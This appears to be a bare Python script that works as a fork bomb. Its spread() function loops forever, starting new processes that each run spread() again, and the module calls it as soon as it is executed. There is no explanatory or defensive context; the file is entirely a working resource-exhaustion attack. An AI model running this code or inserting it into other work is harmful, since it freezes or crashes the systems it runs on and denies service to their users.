from multiprocessing import Process


def spread():
    while True:
        Process(target=spread).start()


spread()
